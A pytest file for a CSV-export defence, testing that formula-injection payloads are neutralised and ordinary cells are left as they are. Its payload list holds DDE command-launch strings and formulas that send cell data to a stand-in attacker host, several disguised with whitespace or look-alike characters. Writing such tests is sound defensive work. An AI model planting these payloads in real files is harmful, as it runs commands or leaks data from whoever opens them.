"""The formula rule: known payloads are neutralised in every reading, ordinary data is left alone,
and the SQL that COPY runs gives what the Python function gives."""

from __future__ import annotations

import random
import re

import pytest

from learner_export.formats.formula import (
    ALWAYS,
    PLAIN,
    SIGNS,
    needs_neutralising,
    neutralise,
    sql_is_formula,
    sql_neutralised,
)
from tests.conftest import query

DDE = "=cmd|' /C calc'!A0"

# Known payloads (OWASP's CSV injection page and its usual variants), each hidden in the ways a
# spreadsheet still finds it: after white space, after a separator of another locale, as a
# look-alike character.
PAYLOADS = [
    DDE,
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
    '=WEBSERVICE("http://evil.example/?leak="&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=IMPORTDATA("http://evil.example/x.csv")',
    '=IMAGE("http://evil.example/pixel.png")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=1+1",
    "@A1",
    "+A1",
    "-A1",
    "=",
    "@",
    "\n=1+1",
    "\r\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\t=1+1",
    "\u3000@SUM(1)",
    '"=1+1"',
    "\x01=1+1",
    "x;" + DDE,
    "x\t" + DDE,
    "x\n" + DDE,
    "x\r" + DDE,
    "x,y;" + DDE,
    "x; =1+1",
    "x;\u00a0@SUM(1)",
    "x;-2+3+cmd|' /C calc'!A0",
    "a;b;c;=1+1",
    'x;"=1+1"',
    "Dear team;\n=1+1",
    "+1;'+cmd|' /C calc'!A0",  # a plain number first, then a payload: the whole cell counts
    "\uff1d1+1",
    "\ufe661+1",
    "\uff20SUM(1)",
    "\ufe6bSUM(1)",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0dcmd|' /C calc'!A0",
    "\u2212cmd|' /C calc'!A0",
    "x;\uff1d1+1",
]

# Ordinary values that must come out exactly as they are.
ORDINARY = [
    "",
    "+61 400 000 000",
    "+61400000000",
    "(02) 9999 9999",
    "+1 (555) 010-9999",
    "-12.5",
    "-0.5",
    "+7",
    "-",
    "+",
    "--",
    "2024-01-01",
    "1/2",
    "\u221212.5",
    "Anne-Marie O'Brien",
    "Smith-Jones",
    "jo@example.com",
    "a-b",
    "a=b",
    "x+y",
    "100%",
    "x;y",
    "a;-1",
    "1;2",
    "café",
    "中文 ünï 😀",
    "'quoted'",
    " plain",
    "note\nline two",
    "tab\tseparated",
    'say "hi"',
    "a,b",
    "\\N",
    "NULL",
]

SKIPPED = ' \t\r\n\u00a0\u200b\ufeff\u3000\x01"'


def reads_as_formula(piece: str) -> bool:
    """An independent reading of one piece: trimmed, does a spreadsheet see a formula?"""
    rest = piece.lstrip(SKIPPED)
    if rest[:1] in ALWAYS and rest:
        return True
    return bool(rest) and rest[0] in SIGNS and not all(c in PLAIN for c in rest[1:])


def formula_in_some_reading(cell: str) -> bool:
    """The cell read whole (`,` separated) or cut at `;`, tab and line breaks."""
    return any(reads_as_formula(p) for p in [cell, *re.split("[;\t\r\n]", cell)])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_found_and_neutralised(payload: str) -> None:
    assert formula_in_some_reading(payload)
    assert needs_neutralising(payload)
    safe = neutralise(payload)
    assert not formula_in_some_reading(safe)
    assert not needs_neutralising(safe)  # neutralising twice changes nothing more
    assert neutralise(safe) == safe
    # Only quotes are added: the data is all still there.
    assert safe.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_values_stay_as_they_are(value: str) -> None:
    assert not needs_neutralising(value)
    assert neutralise(value) == value


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),  # the quote goes first, where a spreadsheet reads it as "text"
        ("x;=1+1", "x;'=1+1"),
        ("x; =1+1;y", "x;' =1+1;y"),
        ("\n=1+1", "\n'=1+1"),
        ("=1;=2\t@3\n-A", "'=1;'=2\t'@3\n'-A"),
        ("+61 400;x", "'+61 400;x"),  # a phone number only when nothing else follows
        ("+1;'+cmd|' /C calc'!A0", "'+1;'+cmd|' /C calc'!A0"),  # a quote already leads the second
    ],
)
def test_where_the_quote_goes(text: str, expected: str) -> None:
    assert neutralise(text) == expected


def _random_cells(count: int) -> list[str]:
    alphabet = "=@+-;\t\r\n \u00a0\u200b\"'0123456789().ax,\uff1d\u2212"
    rng = random.Random(14)
    return ["".join(rng.choice(alphabet) for _ in range(rng.randrange(9))) for _ in range(count)]


def test_sql_gives_what_python_gives(pg_server: str) -> None:
    cells = PAYLOADS + ORDINARY + _random_cells(5000)
    rows = query(
        pg_server,
        f"SELECT t, {sql_neutralised('t')} AS safe, {sql_is_formula('t')} AS f"
        " FROM unnest($1::text[]) WITH ORDINALITY AS c(t, n) ORDER BY n",
        cells,
    )
    assert [r["t"] for r in rows] == cells
    for cell, row in zip(cells, rows, strict=True):
        assert row["safe"] == neutralise(cell), repr(cell)
        assert row["f"] is needs_neutralising(cell), repr(cell)
    # Random cells do reach both branches.
    assert sum(r["f"] for r in rows) > 1000 and sum(not r["f"] for r in rows) > 1000


def test_sql_keeps_null(pg_server: str) -> None:
    row = query(
        pg_server,
        f"SELECT {sql_neutralised('t')} AS safe, coalesce({sql_is_formula('t')},"
        " false) AS f FROM (SELECT NULL::text AS t) c",
    )[0]
    assert row["safe"] is None and row["f"] is False
